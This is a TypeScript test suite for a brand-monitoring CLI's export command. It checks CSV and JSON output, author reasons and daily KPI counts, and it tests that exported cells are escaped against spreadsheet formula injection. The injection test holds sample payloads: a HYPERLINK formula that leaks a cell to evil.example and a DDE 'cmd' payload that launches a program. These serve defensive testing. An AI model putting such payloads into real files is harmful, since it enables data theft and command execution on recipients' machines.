import { readFileSync, writeFileSync } from 'node:fs';
import Database from 'better-sqlite3';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cli } from '../helpers/cli';
import { tempDir, type TempDir } from '../helpers/workspace';

describe('export', () => {
  let tmp: TempDir;
  let ws: string;
  beforeAll(async () => {
    tmp = tempDir();
    ws = tmp.path('e.atalaya');
    await cli(['workspace', 'create', ws, '--brand', 'Acme', '--handle', 'twitter:acme']);
    const rows = Array.from({ length: 12_345 }, (_, i) =>
      JSON.stringify({
        id: `x${i}`,
        date: new Date(Date.UTC(2026, 0, 1) + i * 60_000).toISOString(),
        text: `Pedido ${i} con "comillas", comas y\nsaltos — ñandú`,
        author: `u${i % 50}`,
      }),
    );
    writeFileSync(tmp.path('in.jsonl'), rows.join('\n'));
    expect(
      (await cli(['import', tmp.path('in.jsonl'), '--workspace', ws, '--channel', 'twitter'])).code,
    ).toBe(0);
  });
  afterAll(() => tmp.cleanup());

  it('mentions to CSV: every row, with analysis, quotes and newlines intact', async () => {
    const out = tmp.path('m.csv');
    const r = await cli([
      'export',
      '--workspace',
      ws,
      '--what',
      'mentions',
      '--out',
      out,
      '--json',
    ]);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout)).toMatchObject({ rows: 12_345 });
    const parsed = Papa.parse<Record<string, string>>(
      readFileSync(out, 'utf8').replace(/^\ufeff/, ''),
      { header: true, skipEmptyLines: true },
    );
    expect(parsed.data).toHaveLength(12_345);
    expect(parsed.data[7]).toMatchObject({
      id: 'x7',
      text: 'Pedido 7 con "comillas", comas y\nsaltos — ñandú',
      author: 'u7',
      channel: 'twitter',
    });
    expect(parsed.data[7]?.['sentiment']).toMatch(/^-?[01]$/);
  });
  it('authors to JSON with labels and reasons', async () => {
    await cli(['authors', '--workspace', ws, '--json']);
    const out = tmp.path('a.json');
    expect((await cli(['export', '--workspace', ws, '--what', 'authors', '--out', out])).code).toBe(
      0,
    );
    const a = JSON.parse(readFileSync(out, 'utf8')) as Array<{
      handle: string;
      label: string;
      reasons: string;
    }>;
    expect(a).toHaveLength(50);
    expect(a[0]?.label).toBeTruthy();
    // the sentences People shows, not '[object Object] | [object Object]'
    const db = new Database(ws, { readonly: true });
    const stored = db.prepare('SELECT handle, reasons FROM authors').all() as Array<{
      handle: string;
      reasons: string;
    }>;
    db.close();
    for (const s of stored) {
      const texts = (JSON.parse(s.reasons) as Array<{ text: string }>).map((r) => r.text);
      expect(texts.length).toBeGreaterThan(0);
      expect(a.find((x) => x.handle === s.handle)?.reasons).toBe(texts.join(' | '));
    }
    expect(a.map((x) => x.reasons).join('\n')).not.toMatch(/object Object/);
    expect((await cli(['export', '--workspace', ws, '--what', 'nope', '--out', out])).code).toBe(2);
  });
  it('daily KPIs to JSON: every customer mention counted once, on its local day', async () => {
    const out = tmp.path('k.json');
    expect((await cli(['export', '--workspace', ws, '--what', 'kpis', '--out', out])).code).toBe(0);
    const k = JSON.parse(readFileSync(out, 'utf8')) as Array<{
      day: string;
      customer_mentions: number;
    }>;
    const db = new Database(ws, { readonly: true });
    const n = (
      db.prepare('SELECT count(*) AS n FROM mentions WHERE is_brand = 0').get() as { n: number }
    ).n;
    db.close();
    expect(k.reduce((a, r) => a + r.customer_mentions, 0)).toBe(n);
    expect(k.map((r) => r.day)).toEqual([...k.map((r) => r.day)].sort());
  });
});

describe('export to CSV of what anyone posted', () => {
  let tmp: TempDir;
  beforeAll(() => (tmp = tempDir()));
  afterAll(() => tmp.cleanup());

  it('writes a post or a name that a spreadsheet would run as a formula as text', async () => {
    const ws = tmp.path('f.atalaya');
    await cli(['workspace', 'create', ws, '--brand', 'Acme']);
    const posts = [
      '=HYPERLINK("http://evil.example/?d="&A1,"Acme: ver factura")',
      "+cmd|' /C calc'!A0 acme",
      '-1+1 acme',
      '@SUM(1+1)*cmd acme',
      '@acme mi pedido no llega',
      'Acme = caro',
    ];
    writeFileSync(
      tmp.path('f.csv'),
      'date,author,text\n' +
        posts
          .map((t, i) => `2026-11-25 10:0${i},${i ? `u${i}` : '=1+2'},"${t.replaceAll('"', '""')}"`)
          .join('\n'),
    );
    expect((await cli(['import', tmp.path('f.csv'), '--workspace', ws])).code).toBe(0);
    for (const what of ['mentions', 'authors']) {
      const out = tmp.path(`${what}.csv`);
      expect((await cli(['export', '--workspace', ws, '--what', what, '--out', out])).code).toBe(0);
      const rows = Papa.parse<Record<string, string>>(
        readFileSync(out, 'utf8').replace(/^\ufeff/, ''),
        { header: true, skipEmptyLines: true },
      ).data;
      const cells = rows.flatMap((r) => Object.values(r));
      // no cell but a negative number starts as a formula; escaped ones keep their words
      expect(cells.filter((c) => /^(?:[=+-]|@\w*\()/.test(c) && !/^-\d+(\.\d+)?$/.test(c))).toEqual(
        [],
      );
      if (what === 'authors') expect(cells).toContain("'=1+2");
      else {
        const texts = rows.map((r) => r['text']);
        expect(texts).toEqual(
          expect.arrayContaining([
            `'${posts[0]}`,
            `'${posts[1]}`,
            `'${posts[2]}`,
            `'${posts[3]}`,
            '@acme mi pedido no llega',
            'Acme = caro',
          ]),
        );
        // numbers are not text: a negative sentiment stays a number
        expect(rows.map((r) => r['sentiment'])).toContain('-1');
      }
    }
  });
});
